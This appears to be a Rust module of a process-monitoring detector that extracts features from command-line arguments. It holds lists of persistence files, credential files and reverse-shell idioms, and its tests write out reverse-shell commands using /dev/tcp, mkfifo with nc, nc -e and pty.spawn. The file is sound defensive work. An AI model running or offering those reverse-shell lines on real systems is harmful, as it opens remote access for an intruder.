//! What the arguments of a process look like.

use std::net::{IpAddr, Ipv4Addr};

use crate::event::ByteString;
use crate::feature::program::{ProgramKinds, called_name};
use crate::feature::text::{Histogram, hash};

/// Facts about an argument vector. Those about content leave out the first argument, the program's own name.
#[derive(Debug, Default)]
pub(super) struct ArgumentShape {
    pub(super) count: usize,
    pub(super) bytes: usize,
    pub(super) longest: usize,
    /// Bits per byte; `None` without any content.
    pub(super) entropy: Option<f64>,
    pub(super) digits: u64,
    /// Printable, but neither letter, digit nor blank.
    pub(super) specials: u64,
    pub(super) non_ascii: u64,
    /// Bytes the three counts above are parts of.
    pub(super) content_bytes: u64,
    /// A shell or interpreter is given its program on the command line.
    pub(super) inline_script: bool,
    /// A shell is told to be interactive.
    pub(super) interactive: bool,
    /// An IP address, or `localhost`.
    pub(super) network_address: bool,
    pub(super) url: bool,
    /// A construct that ties a program's streams to the network.
    pub(super) remote_shell: bool,
    /// Longest run of characters that base64 and hexadecimal numbers consist of.
    pub(super) longest_encoded_run: usize,
    /// Pipes, redirections, separators and substitutions.
    pub(super) shell_operators: usize,
    /// Something is redirected into a file.
    pub(super) redirects_output: bool,
    /// A place from which the system starts programs by itself.
    pub(super) persistence_location: bool,
    /// Hash of a file that tells about accounts or the system, if one is named (the last one).
    pub(super) system_information: Option<u64>,
    /// A directory where everybody may write.
    pub(super) temporary_path: bool,
    /// A name that begins with a dot.
    pub(super) hidden_file: bool,
    /// Discovery tools and files of system information named in an inline script.
    pub(super) discovery_names: usize,
}

/// Options that may come before a script; more are not looked at.
const OPTIONS_EXAMINED_MAX: usize = 8;

impl ArgumentShape {
    pub(super) fn of(arguments: &[ByteString], kinds: ProgramKinds) -> Self {
        let mut shape = Self { count: arguments.len(), ..Self::default() };
        let mut histogram = Histogram::new();
        for argument in arguments {
            shape.bytes += argument.len();
        }
        for argument in arguments.iter().skip(1).map(ByteString::as_bytes) {
            shape.longest = shape.longest.max(argument.len());
            argument.iter().for_each(|byte| histogram.add(*byte));
            shape.scan_runs(argument);
            shape.scan_operators(argument);
            shape.scan_names(argument, kinds.has(ProgramKinds::SHELL.union(ProgramKinds::INTERPRETER)));
        }
        shape.entropy = histogram.entropy();
        shape.content_bytes = histogram.total();
        shape.digits = histogram.count(|byte| byte.is_ascii_digit());
        shape.specials = histogram.count(|byte| byte.is_ascii_punctuation());
        shape.non_ascii = histogram.count(|byte| !byte.is_ascii());
        shape.scan_options(arguments, kinds);
        if !shape.inline_script {
            shape.discovery_names = 0;
        }
        shape
    }

    /// Looks at the options before the first argument that is none.
    fn scan_options(&mut self, arguments: &[ByteString], kinds: ProgramKinds) {
        let options = arguments.iter().skip(1).map(ByteString::as_bytes).take(OPTIONS_EXAMINED_MAX);
        for option in options.take_while(|argument| argument.starts_with(b"-")) {
            if option.starts_with(b"--") {
                continue;
            }
            if kinds.has(ProgramKinds::SHELL) {
                self.inline_script |= option.contains(&b'c');
                self.interactive |= option.contains(&b'i');
            } else if kinds.has(ProgramKinds::INTERPRETER) {
                self.inline_script |= matches!(option.last(), Some(b'c' | b'e' | b'E' | b'r'));
            }
        }
        if arguments.first().is_some_and(|called| matches!(called_name(called.as_bytes()), b"nc" | b"ncat" | b"netcat"))
        {
            // Run a program with its streams on the connection.
            self.remote_shell |= arguments.iter().any(|argument| matches!(argument.as_bytes(), b"-e" | b"-c"));
        }
    }

    /// Finds runs of characters that belong together: addresses and encoded data.
    fn scan_runs(&mut self, argument: &[u8]) {
        let mut encoded = 0;
        let mut address_start = None;
        for (index, byte) in argument.iter().enumerate() {
            encoded = if byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'=') { encoded + 1 } else { 0 };
            self.longest_encoded_run = self.longest_encoded_run.max(encoded);
            match (is_address_byte(*byte), address_start) {
                (true, None) => address_start = Some(index),
                (false, Some(start)) => {
                    self.network_address |= is_address(&argument[start..index]);
                    address_start = None;
                }
                _ => {}
            }
        }
        if let Some(start) = address_start {
            self.network_address |= is_address(&argument[start..]);
        }
    }

    fn scan_operators(&mut self, argument: &[u8]) {
        let mut before = 0;
        for (index, byte) in argument.iter().enumerate() {
            match byte {
                b'|' | b';' | b'&' | b'<' | b'`' => self.shell_operators += 1,
                b'>' => {
                    self.shell_operators += 1;
                    // Not an arrow (`->`, `=>`), and a target follows.
                    self.redirects_output |= !matches!(before, b'-' | b'=') && index + 1 < argument.len();
                }
                b'(' if before == b'$' => self.shell_operators += 1,
                b'/' if before == b'/' && index >= 2 && argument[index - 2] == b':' => self.url = true,
                _ => {}
            }
            before = *byte;
        }
    }

    /// Looks up each name between separators, together with the one before it; programs only where a script may be.
    fn scan_names(&mut self, argument: &[u8], may_be_script: bool) {
        let mut before: &[u8] = b"";
        for name in argument.split(|byte| is_separator(*byte)).filter(|name| !name.is_empty()) {
            self.persistence_location |= is_persistence_name(name);
            self.network_address |= name == b"localhost";
            self.temporary_path |= matches!(name, b"tmp" | b"shm");
            self.hidden_file |= name.len() > 1 && name.starts_with(b".") && name != b"..";
            if may_be_script {
                self.discovery_names += usize::from(ProgramKinds::of(name).has(ProgramKinds::DISCOVERY));
            }
            self.remote_shell |= matches!((before, name), (b"dev", b"tcp" | b"udp"))
                || matches!(name, b"mkfifo" | b"pty.spawn" | b"os.dup2" | b"EXEC" | b"exec:");
            if matches!(before, b"etc" | b"lib" | b"proc" | b"net") && SYSTEM_INFORMATION.contains(&(before, name)) {
                self.system_information = Some(hash(name));
                self.discovery_names += 1;
            }
            before = name;
        }
    }
}

fn is_separator(byte: u8) -> bool {
    byte.is_ascii_whitespace()
        || matches!(
            byte,
            b'/' | b'"'
                | b'\''
                | b'='
                | b':'
                | b';'
                | b'>'
                | b'<'
                | b'|'
                | b'&'
                | b'('
                | b')'
                | b','
                | b'`'
                | b'{'
                | b'}'
        )
}

/// Letters that no address has are included, so that a name such as `std::net` is not cut into one.
fn is_address_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b':' | b'_')
}

/// An IPv4 address, perhaps with a port, or an IPv6 address.
fn is_address(run: &[u8]) -> bool {
    /// `255.255.255.255:65535` has 21 bytes, a full IPv6 address 39.
    const LENGTHS: std::ops::RangeInclusive<usize> = 3..=39;
    let dots = run.iter().filter(|byte| **byte == b'.').count();
    let colons = run.iter().filter(|byte| **byte == b':').count();
    if !LENGTHS.contains(&run.len()) || (dots != 3 && colons < 2) {
        return false;
    }
    let Ok(text) = str::from_utf8(run) else { return false };
    if dots == 3 {
        let host = text.trim_end_matches(['.', ':']).split(':').next().unwrap_or(text);
        host.parse::<Ipv4Addr>().is_ok()
    } else {
        text.parse::<IpAddr>().is_ok()
    }
}

/// Names of directories and files from which a system starts programs, or lets people in, by itself.
fn is_persistence_name(name: &[u8]) -> bool {
    const NAMES: [&[u8]; 24] = [
        b".bash_login",
        b".bash_logout",
        b".bash_profile",
        b".bashrc",
        b".profile",
        b".xprofile",
        b".zprofile",
        b".zshrc",
        b"LaunchAgents",
        b"LaunchDaemons",
        b"anacrontab",
        b"authorized_keys",
        b"autostart",
        b"init.d",
        b"inittab",
        b"ld.so.preload",
        b"modules-load.d",
        b"pam.d",
        b"profile.d",
        b"rc.local",
        b"rules.d",
        b"sudoers",
        b"sudoers.d",
        b"systemd",
    ];
    /// The shortest of them; most words are shorter.
    const NAME_BYTES_MIN: usize = 4;
    if name.len() < NAME_BYTES_MIN {
        return false;
    }
    name.starts_with(b"cron") || name.ends_with(b".timer") || NAMES.binary_search(&name).is_ok()
}

/// Directory and file that tell about accounts, the system or its network.
const SYSTEM_INFORMATION: [(&[u8], &[u8]); 20] = [
    (b"etc", b"passwd"),
    (b"etc", b"shadow"),
    (b"etc", b"group"),
    (b"etc", b"gshadow"),
    (b"etc", b"sudoers"),
    (b"etc", b"os-release"),
    (b"lib", b"os-release"),
    (b"etc", b"issue"),
    (b"etc", b"hosts"),
    (b"etc", b"hostname"),
    (b"etc", b"resolv.conf"),
    (b"etc", b"machine-id"),
    (b"etc", b"fstab"),
    (b"proc", b"version"),
    (b"proc", b"cpuinfo"),
    (b"proc", b"meminfo"),
    (b"proc", b"mounts"),
    (b"net", b"tcp"),
    (b"net", b"route"),
    (b"net", b"arp"),
];

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(line: &[&str], kinds: ProgramKinds) -> ArgumentShape {
        let arguments: Vec<ByteString> = line.iter().map(|argument| ByteString::from(*argument)).collect();
        ArgumentShape::of(&arguments, kinds)
    }

    #[test]
    fn addresses_are_found_and_versions_are_not() {
        for text in
            ["127.0.0.1", "http://10.0.0.1:8080/x", "connect(192.168.1.4,22)", "[::1]:80", "fe80::1", "localhost:80"]
        {
            assert!(shape(&["x", text], ProgramKinds::default()).network_address, "{text}");
        }
        for text in ["1.2.3", "0.1.2-3", "a::b::c", "12:30:59", "999.1.1.1", "std::net::d", "::", "cafe"] {
            assert!(!shape(&["x", text], ProgramKinds::default()).network_address, "{text}");
        }
    }

    #[test]
    fn inline_scripts_and_interactive_shells_are_told_by_their_options() {
        let inline = |line: &[&str], kinds| shape(line, kinds).inline_script;
        assert!(inline(&["sh", "-c", "id"], ProgramKinds::SHELL));
        assert!(inline(&["bash", "--norc", "-lc", "id"], ProgramKinds::SHELL));
        assert!(!inline(&["sh", "configure", "-c"], ProgramKinds::SHELL));
        assert!(inline(&["perl", "-e", "1"], ProgramKinds::INTERPRETER));
        assert!(!inline(&["grep", "-c", "x"], ProgramKinds::TEXT));
        assert!(shape(&["bash", "-i"], ProgramKinds::SHELL).interactive);
    }

    #[test]
    fn constructs_of_remote_shells_are_found() {
        for line in [
            &["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444; cat <&3"][..],
            &["sh", "-c", "mkfifo /tmp/f; nc 127.0.0.1 1 </tmp/f"],
            &["python3", "-c", "import pty;pty.spawn('/bin/sh')"],
        ] {
            assert!(shape(line, ProgramKinds::SHELL).remote_shell, "{line:?}");
        }
        assert!(shape(&["/bin/nc", "h", "1", "-e", "/bin/sh"], ProgramKinds::NETWORK).remote_shell);
        assert!(!shape(&["curl", "-c", "jar", "http://h/"], ProgramKinds::NETWORK).remote_shell);
        assert!(!shape(&["ls", "/dev/tty"], ProgramKinds::TEXT).remote_shell);
    }

    #[test]
    fn places_of_persistence_are_found_wherever_they_lie() {
        for text in
            ["echo x >> /data/box/etc/cron.d/job", "/home/u/.config/systemd/user/a.service", "~/.bashrc", "a.timer"]
        {
            assert!(shape(&["sh", "-c", text], ProgramKinds::SHELL).persistence_location, "{text}");
        }
        assert!(!shape(&["ls", "/usr/share/doc"], ProgramKinds::TEXT).persistence_location);
    }

    #[test]
    fn redirections_are_not_arrows() {
        assert!(shape(&["sh", "-c", "echo x >> f"], ProgramKinds::SHELL).redirects_output);
        assert!(!shape(&["sh", "-c", "a->b => c"], ProgramKinds::SHELL).redirects_output);
    }

    #[test]
    fn content_is_counted_without_the_programs_name() {
        let shape = shape(&["0123456789", "ab1", "\u{e9}-"], ProgramKinds::default());
        assert_eq!((shape.count, shape.bytes, shape.longest), (3, 16, 3));
        assert_eq!((shape.content_bytes, shape.digits, shape.specials, shape.non_ascii), (6, 1, 1, 2));
        assert!(shape.entropy.is_some_and(|bits| (bits - 2.585).abs() < 0.001), "six different bytes: log2 6");
    }
}
